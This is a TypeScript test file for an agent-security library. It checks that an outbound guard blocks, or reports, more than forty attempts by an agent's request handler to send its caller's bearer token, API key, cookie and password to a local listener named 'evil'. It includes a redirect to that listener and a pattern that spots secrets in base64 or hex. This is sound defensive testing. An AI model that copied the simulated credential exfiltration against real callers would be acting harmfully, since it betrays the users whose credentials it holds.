/** An agent whose handler tries to send its caller's credentials away. Promise 5: it cannot. */
import type { Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import express from 'express'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { expressGuard } from '../../src/adapters/express.ts'
import {
  currentCaller,
  guardFetch,
  installOutboundGuard,
  type OutboundGuard,
  type OutboundLeak,
  withCaller,
} from '../../src/delegation/index.ts'
import { TrustError } from '../../src/errors.ts'
import { type Attack, attacks, type Loot } from '../support/outbound-attacks.ts'
import { type Listener, listenHttp, listenHttp2 } from '../support/outbound-listeners.ts'
import { API_KEY, makeRig, type Rig, rigCard } from '../support/rig.ts'

let rig: Rig
let server: Server
let port: number
let evil: Listener
let evil2: Listener
let redirecting: Listener
let token: string
let work: () => Promise<unknown> = () => Promise.resolve()
const PASSWORD = 'correct horse battery'
const COOKIE = 's3ss10n-0f-al1ce-7f3a'

beforeAll(async () => {
  evil = await listenHttp()
  evil2 = await listenHttp2()
  redirecting = await listenHttp((_request, response) =>
    response.writeHead(307, { location: `${evil.origin}/after` }).end(),
  )
  // Both a token and a key, and a cookie besides.
  rig = await makeRig({
    card: rigCard({ securityRequirements: [{ schemes: { login: { list: [] }, key: { list: [] } } }] }),
  })
  token = await rig.token()
  const app = express()
  app.use('/a2a', expressGuard(rig.guard, { binding: 'JSONRPC' }), (_req, res) => {
    work().then(
      () => res.json({ ok: true }),
      (fault: unknown) => {
        last = fault
        res.json({ ok: false })
      },
    )
  })
  server = app.listen(0, '127.0.0.1')
  await new Promise((resolve) => server.once('listening', resolve))
  ;({ port } = server.address() as AddressInfo)
})
afterAll(async () => {
  server.closeAllConnections()
  await Promise.all([new Promise((resolve) => server.close(resolve)), evil.close(), evil2.close(), redirecting.close()])
  await rig.close()
})

let last: unknown
let leaks: OutboundLeak[] = []
let installed: OutboundGuard | undefined
beforeEach(() => {
  last = undefined
  leaks = []
  for (const one of [evil, evil2, redirecting]) one.clear()
})
afterEach(() => installed?.uninstall())

const install = (mode: 'enforce' | 'report') => {
  installed = installOutboundGuard(rig.guard, { mode, onLeak: (leak) => leaks.push(leak) })
}

/** One request of the caller, in which the handler does `attack`. */
async function runInHandler(attack: Attack): Promise<{ ok: boolean }> {
  const loot: Loot = {
    token,
    key: API_KEY,
    password: token.slice(-20),
    cookie: COOKIE,
    url: evil.origin,
    port: evil.port,
    http2Url: evil2.origin,
    http2Port: evil2.port,
    redirectUrl: redirecting.origin,
  }
  work = () => attack({ ...loot, password: PASSWORD })
  const response = await fetch(`http://127.0.0.1:${port}/a2a`, {
    method: 'POST',
    body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'GetTask', params: { id: 't' } }),
    headers: {
      'content-type': 'application/json',
      'a2a-version': '1.0',
      authorization: `Bearer ${token}`,
      'proxy-authorization': `Basic ${Buffer.from(`alice:${PASSWORD}`).toString('base64')}`,
      'x-api-key': API_KEY,
      cookie: `theme=dark; sid=${COOKIE}`,
    },
  })
  expect(response.status).toBe(200)
  return (await response.json()) as { ok: boolean }
}

/** The error of ours that `fault` is, or was caused by. */
function ours(fault: unknown, depth = 0): TrustError | undefined {
  if (fault instanceof TrustError) return fault
  if (typeof fault !== 'object' || fault === null || depth > 5) return undefined
  const { cause, errors = [] } = fault as { cause?: unknown; errors?: unknown[] }
  for (const one of [cause, ...errors]) {
    const found = ours(one, depth + 1)
    if (found !== undefined) return found
  }
  return undefined
}

const STREAMED =
  /stream|pieces|pipe|iterable|writes|byte|trailer|file|multipart|Blob|text|JSON|form|base64|hex|http2, body|grpc-js, message|body through|Pool/

/** Any sixteen characters of a secret, as they are or in base64. */
function stolen(bytes: string): string[] {
  const signature = token.slice(token.lastIndexOf('.') + 1)
  return [signature, API_KEY, COOKIE, PASSWORD].filter((secret) => {
    for (let at = 0; at + 16 <= secret.length; at += 1) {
      const part = secret.slice(at, at + 16)
      const forms = [part, Buffer.from(part).toString('base64').slice(0, 20), Buffer.from(part).toString('hex')]
      if (forms.some((form) => bytes.includes(form))) return true
    }
    return false
  })
}

describe('A87 A88 A89 a handler that forwards what arrived', () => {
  it('there are more than forty ways to try', () => {
    expect(Object.keys(attacks).length).toBeGreaterThan(40)
  })

  it.each(Object.entries(attacks))('enforce: %s', async (name, attack) => {
    install('enforce')
    expect(await runInHandler(attack)).toEqual({ ok: false })
    expect(leaks.length).toBeGreaterThan(0)
    const error = ours(last)
    if (!name.startsWith('grpc-js')) expect(error?.code ?? String(last)).toBe('ERR_OUTBOUND_CREDENTIAL')
    const said = JSON.stringify([leaks, String(last), error?.message, error?.details])
    for (const secret of [token.split('.')[2] as string, API_KEY, COOKIE, PASSWORD]) expect(said).not.toContain(secret)
    expect(stolen(evil.bytes() + evil2.bytes())).toEqual([])
    // Where the body is at hand nothing is sent at all; where it comes in pieces, those before the find.
    if (!STREAMED.test(name)) expect(evil.bytes() + evil2.bytes()).toBe('')
  })

  it.each(Object.entries(attacks))('report: %s', async (name, attack) => {
    install('report')
    await runInHandler(attack)
    expect(leaks).not.toEqual([])
    expect(leaks.every(({ mode }) => mode === 'report')).toBe(true)
    expect(ours(last)).toBeUndefined()
    if (!name.includes('host name')) expect(evil.bytes() + evil2.bytes()).not.toBe('')
  })
})

describe('what is innocent', () => {
  const words = [
    'Bearer of good news',
    'sid=dark',
    'eyJhbGciOiJFUzI1NiJ9',
    'alice',
    'theme=dark',
    'a-partner-key',
    'token',
  ]
  const innocent: Attack = async ({ url }) => {
    const answers = await Promise.all(
      Array.from({ length: 100 }, (_, n) => {
        const word = `${words[n % words.length]} ${n}`
        const body = [word, Buffer.alloc(5000, n), JSON.stringify({ word }), new URLSearchParams({ word })][
          n % 4
        ] as NonNullable<RequestInit['body']>
        const headers = { 'x-word': word, authorization: `Bearer own-token-of-the-agent-${n}` }
        return fetch(`${url}/innocent?n=${n}`, n % 5 === 0 ? { headers } : { method: 'POST', headers, body })
      }),
    )
    if (answers.some((answer) => !answer.ok)) throw new Error('an innocent request was answered otherwise')
  }

  it.each(['enforce', 'report'] as const)('%s: a hundred requests arrive as they were made', async (mode) => {
    install(mode)
    expect(await runInHandler(innocent)).toEqual({ ok: true })
    expect(leaks).toEqual([])
    expect(evil.bytes().match(/innocent\?n=\d+/g)).toHaveLength(100)
  })

  it('outside of any request everything may be sent', async () => {
    install('enforce')
    const response = await fetch(evil.origin, { headers: { authorization: `Bearer ${token}` } })
    expect(response.ok).toBe(true)
  })
})

describe('callers that run at once', () => {
  it('10,000 interleaved calls: each is kept from sending its own credential, and none from sending anything else', async () => {
    const secretOf = (n: number) => `credential-of-caller-${n}-${'x'.repeat(20)}`
    const sent: string[] = []
    const guarded = guardFetch(async (input) => {
      sent.push(String(input))
      return new Response()
    })
    let blocked = 0
    const call = (n: number) =>
      withCaller({ credentials: [{ kind: 'bearer', value: secretOf(n % 100) }] }, async () => {
        await new Promise((resolve) => (n % 3 === 0 ? setTimeout(resolve, n % 7) : setImmediate(resolve)))
        await guarded(`https://other.example/?q=${secretOf((n + 1) % 100)}`)
        await guarded(`https://other.example/?q=${secretOf(n % 100)}`).catch((error: unknown) => {
          expect(error).toMatchObject({ code: 'ERR_OUTBOUND_CREDENTIAL' })
          blocked += 1
        })
      })
    await Promise.all(Array.from({ length: 10_000 }, (_, n) => call(n)))
    expect(blocked).toBe(10_000)
    expect(sent).toHaveLength(10_000)
    expect(currentCaller()).toBeUndefined()
  })
})
